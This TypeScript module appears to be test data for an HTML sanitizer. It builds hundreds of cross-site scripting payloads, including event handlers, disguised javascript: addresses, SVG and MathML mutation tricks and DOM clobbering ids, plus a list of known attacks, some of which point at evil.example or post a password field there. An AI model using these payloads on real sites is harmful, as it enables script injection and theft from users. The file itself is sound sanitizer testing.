import { ELEMENT_IDS } from '../../contract/constants.ts';

/** Each runs in a browser unless it is sanitized. */
const RUNS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
];
const [RUN] = RUNS as [string];

const cross = <A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B) => string): string[] =>
  as.flatMap((a) => bs.map((b) => make(a, b)));

const words = (text: string): string[] => text.trim().split(/\s+/);

const EVENTS = words(`onclick onload onerror onfocus ontoggle onpointerenter onanimationstart
  onbeforematch onscrollend onbeforetoggle ONCLICK onnothing`);
const PROTOCOLS = [
  'data:image/svg+xml,<svg onload=alert(1)>',
  ...words(`javascript:alert(1) JavaScript:alert(1) vbscript:x livescript:x mocha:x
    data:text/html,<script>alert(1)</script> blob:https://a.example/1 filesystem:https://a.example/1
    file:///etc/passwd ftp://a.example ws://a.example about:blank view-source:x intent://x jar:x
    chrome://x x-y.z+1:x`),
];
const SCRIPT_URL = 'javascript:alert(1)';

/** Script addresses that browsers still recognize, and near misses. */
const DISGUISES: string[] = [
  ...Array.from({ length: 33 }, (_, code) => `${String.fromCharCode(code)}${SCRIPT_URL}`),
  ...['\t', '\n', '\r', '\u0000', '\u00ad', '\u200b', '\u2028', '\ufeff', '\\'].map((sign) =>
    SCRIPT_URL.replace('script', `sc${sign}ript`),
  ),
  ...[
    (code: number) => `&#${code};`,
    (code: number) => `&#${code}`,
    (code: number) => `&#x${code.toString(16)};`,
    (code: number) => `&#X${code.toString(16)}`,
    (code: number) => `&#${String(code).padStart(7, '0')};`,
    (code: number) => `%${code.toString(16)}`,
    (code: number) => `&amp;#${code};`,
  ].map((encode) => Array.from(SCRIPT_URL, (sign) => encode(sign.charCodeAt(0))).join('')),
  ...['javascript&colon;alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)'],
  ...words('javascript&#58alert(1) feed:javascript:alert(1) //javascript:alert(1) ｊavascript:x'),
];

/** Elements with parsing rules of their own. */
const RAW_TEXT = words(`style title textarea noscript noembed noframes xmp iframe script plaintext
  template select option listing object video frameset button`);
const FOREIGN = [
  ...words(`<svg> <svg><desc> <svg><title> <svg><foreignObject> <svg></p> <svg><![CDATA[
    <math> <math><mi> <math><mo> <math><mn> <math><ms> <math><mtext>
    <math><mtext><table><mglyph> <math><mtext><malignmark>
    <form><math><mtext></form><form><mglyph>
    <svg><style> <math><style> <svg><a> <table><svg> <select><math>`),
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding="application/xhtml+xml">',
];
const CLOBBERED = [
  ...Object.values(ELEMENT_IDS),
  ...words('_R_1_ __proto__ body cookie location getElementById attributes children'),
];

const CUT =
  '<a title="<img src=x onerror=alert(1)>" href="javascript:alert(1)"><svg onload=\'alert(1)\'>x</a>';

/** Attacks by what they try. */
export const VECTORS: Readonly<Record<string, string[]>> = {
  'an attribute': [
    ...cross(
      ['p', 'h2', 'a', 'img', 'td', 'details'],
      EVENTS,
      (tag, event) => `<${tag} ${event}=alert(1)>x`,
    ),
    ...cross(
      [' ', '/', '\t', '\n', '\f', '"', "'", '=', '\u0000', '\u000b'],
      RUNS.slice(0, 1),
      (sign) => `<img${sign}src="x"${sign}onerror="alert(1)">`,
    ),
    ...words('autofocus contenteditable tabindex=1 accesskey=x popover is=x slot=x nonce=x').map(
      (attribute) => `<p ${attribute} onfocus=alert(1)>x</p>`,
    ),
  ],
  'an address': [
    ...cross(
      ['a href', 'img src', 'iframe src', 'q cite', 'form action', 'object data'],
      PROTOCOLS,
      (place, url) => `<${place}="${url}">x`,
    ),
  ],
  'an address in disguise': cross(
    ['a href', 'img src'],
    DISGUISES,
    (place, url) => `<${place}="${url}">x</a>`,
  ),
  'text that is markup to some': [
    ...cross(
      RAW_TEXT,
      RUNS.slice(0, 3),
      (tag, run) => `<${tag}><img title="</${tag}>${run}"></${tag}>`,
    ),
    ...cross(RAW_TEXT, [RUN], (tag, run) => `<p title="</${tag}>${run}"><${tag}>${run}`),
    ...cross(RAW_TEXT, [RUN], (tag, run) => `<${tag} ><${tag}/></${tag}\t>${run}<!--</${tag}>-->`),
  ],
  'another namespace': cross(
    FOREIGN,
    [...RUNS, '<style><img src=x onerror=alert(1)></style>'],
    (open, run) => `${open}${run}`,
  ),
  'a mutation': [
    ...cross(
      FOREIGN,
      ['style', 'title', 'noscript'],
      (open, tag) => `${open}<${tag}><a id="</${tag}>${RUN}">`,
    ),
    ...cross(
      FOREIGN,
      ['--&gt;', '--!&gt;', ']]&gt;'],
      (open, end) =>
        `${open}<style><!--</style><a title="${end}&lt;img src=x onerror=alert(1)&gt;">`,
    ),
  ],
  'a style': [
    ...[
      '<style>@import "//a.example"</style>',
      '<link rel=stylesheet href=//a.example>',
      '<style/>*{}',
    ],
    ...[
      'background:url(javascript:alert(1))',
      'position:fixed;inset:0',
      'expression(alert(1))',
      '-moz-binding:url(x)',
    ].map((css) => `<p style="${css}" class="x">x</p>`),
  ],
  'another source': cross(
    ['img', 'source', 'picture><img', 'video', 'audio', 'embed', 'input type=image'],
    [
      'srcset="javascript:alert(1) 1x"',
      'srcset="//a.example/x 2x" src=/x.png',
      'poster=javascript:alert(1)',
      'src=data:image/svg+xml;base64,PHN2Zy8+',
      'dynsrc=javascript:alert(1)',
      'lowsrc=javascript:alert(1)',
      'data-src=javascript:alert(1)',
      'data-srcset="javascript:alert(1) 1x" src=data:x',
    ],
    (tag, source) => `<${tag} ${source}>`,
  ),
  'an id of ours': [
    ...cross(
      ['h2', 'p', 'form', 'img', 'a'],
      CLOBBERED,
      (tag, id) => `<${tag} id="${id}" name="${id}">${id}</${tag}>`,
    ),
    ...CLOBBERED.map((id) => `<h2 id="${id.toUpperCase()}">${id}</h2><h3>${id}</h3>`),
  ],
  'a place': [
    ...cross(
      CLOBBERED,
      ['p', 'a', 'form', 'my-x'],
      (id, tag) => `<a href="#${id}">x</a><${tag} id="${id}" name="${id}">${id}</${tag}>`,
    ),
    ...cross(
      ['"><img src=x onerror=alert(1)>', '" onclick="alert(1)', 'user-content-'],
      ['id', 'name'],
      (id, name) => `<a href='#${id}'>x</a><a ${name}='${id}'>y</a>`,
    ),
  ],
  'a footnote': cross(
    ['role=doc-backlink', 'data-footnote-backref', 'class=footnote-back'],
    ['<img src=x onerror=alert(1)>', '" onclick="alert(1)'],
    (mark, label) =>
      `<section class=footnotes aria-label='${label}' onclick=alert(1)><a href="#x" ${mark} aria-label='${label}'>x</a><a href="javascript:alert(1)" ${mark}>x</a></section>`,
  ),
  'a style that has a meaning': cross(
    ['b', 'span', 'p', 'td'],
    [
      'font-weight:bold;background:url(javascript:alert(1))',
      'text-align:"><script>',
      'mso-list:l0 level1 lfo1;x:expression(alert(1))',
      'mso-element:footnote-list',
    ],
    (tag, style) => `<${tag} style='${style}' onclick=alert(1)>x</${tag}>`,
  ),
  'a player': cross(
    ['iframe src', 'video src', 'audio src', 'embed src', 'object data', 'video><source src'],
    [...PROTOCOLS, SCRIPT_URL],
    (place, url) => `<${place}="${url}" title='<img src=x onerror=alert(1)>'>`,
  ),
  'a comment': cross(
    [
      '<!-- --!>',
      '<!--[if IE]>',
      '<?xml ',
      '</ ',
      '<!doctype ',
      ...words('<!-- <!--> <!---> <!-x <![CDATA[ <% <!--<!--'),
    ],
    RUNS,
    (open, run) => `${open}${run}-->${run}]]>`,
  ),
  'an end that does not come': Array.from(CUT, (_, end) => CUT.slice(0, end + 1)),
  'forms and frames': [
    ...['form', 'button', 'input', 'select', 'textarea', 'fieldset'].map(
      (tag) => `<form><${tag} formaction=javascript:alert(1)><form action=//a.example></${tag}>`,
    ),
    ...[
      'base href',
      'meta http-equiv=refresh content',
      'embed src',
      'frame src',
      'portal src',
      'link href',
    ].map((place) => `<${place}="javascript:alert(1)"><a href="x">x</a>`),
  ],
  'a sign within': [
    ...Array.from(
      { length: 33 },
      (_, code) => `<scr${String.fromCharCode(code)}ipt>alert(1)</script>${RUN}`,
    ),
    ...words('\ud800 \udc00 \u202e \ufffe \u{1F511} ＜ \u0338 +ADw- &lt; &#60;').map(
      (sign) => `${sign}${RUN}<p>${sign}<${sign}img src=x onerror=alert(1)>`,
    ),
  ],
};

/** Known attacks that are not generated above. */
export const KNOWN_ATTACKS: string[] = [
  // Scripts, whole, broken and nested
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><!--<script></script>--><img src=x onerror=alert(1)></script>',
  '<script\n>alert(1)</script\t>',
  '<p><script>document.body.innerHTML = "<img src=x onerror=alert(1)>"</script>after</p>',
  // Event handlers
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="/x" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<body onload=alert(1)>x',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  // Addresses
  '<a href="java\nscript\r:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&#0;:alert(1)">x</a>',
  '<a ping="https://evil.example" target=_blank href="/x">x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  // Foreign content and mutations
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<p><svg><desc></p><img src=x onerror=alert(1)></svg>',
  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<a id="x"><table><a href="javascript:alert(1)"><td>x</table>',
  // Frames and plug-ins
  '<iframe src="https://evil.example/youtube.com/embed/abcdefghijk"></iframe>',
  '<iframe src="https://youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc%22onload=alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>alert(1)</script>" onload=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"><param name=x><img src=x onerror=alert(1)></object>',
  '<applet code=x archive="https://evil.example/x.jar"></applet>',
  // What changes the page around it
  '<p class="modal" data-action="x" slot=y part=z>x</p>',
  '<link rel=import href="https://evil.example">',
  '<meta http-equiv=Set-Cookie content="x=1">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<ul><li><input type=checkbox onclick=alert(1) name=root form=x> x</ul>',
  '<isindex action="javascript:alert(1)">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<img name=getElementById id=body src=/x.png><a name=cookie id=location href=/x>x</a>',
  '<dialog open onclose=alert(1)>x</dialog>',
  // Comments and declarations
  '<a href="/x" title="--><script>alert(1)</script>">x</a>',
  // Encodings and loose ends
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<img src=x onerror="alert(1)',
  '<<img src=x onerror=alert(1)>>',
  '<p>\ud800<b>lone</b></p>',
  '<pre>\n\n<img src=x onerror=alert(1)></pre>',
];

/** Markup that parsers repair. */
export const MISNESTED = [
  '<b><i>x</b>y</i>',
  '<p>a<div>b</div>c</p>',
  '<table><tr><td>a<td>b<tr><td>c</table>',
  '<table>loose<tr><td>a</td></tr>text</table>',
  '<ul><li>a<li>b<ul><li>c</ul></ul>',
  '<a href=/a>one<a href=/b>two</a></a>',
  '<h2>one<h3>two</h3></h2>',
  '<p>a<table><tr><td>b</table>c',
  '<pre>\n\n\n  code</pre>',
  '<dl><dt>a<dd>b<dt>c<dd>d</dl>',
  '</p></div>stray',
  '<p><button><p>x</button></p>',
  '<h2><div><h3>x</h3></div></h2>',
  '<table><caption>a</caption><colgroup><col span=2></colgroup><tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody></table>',
];
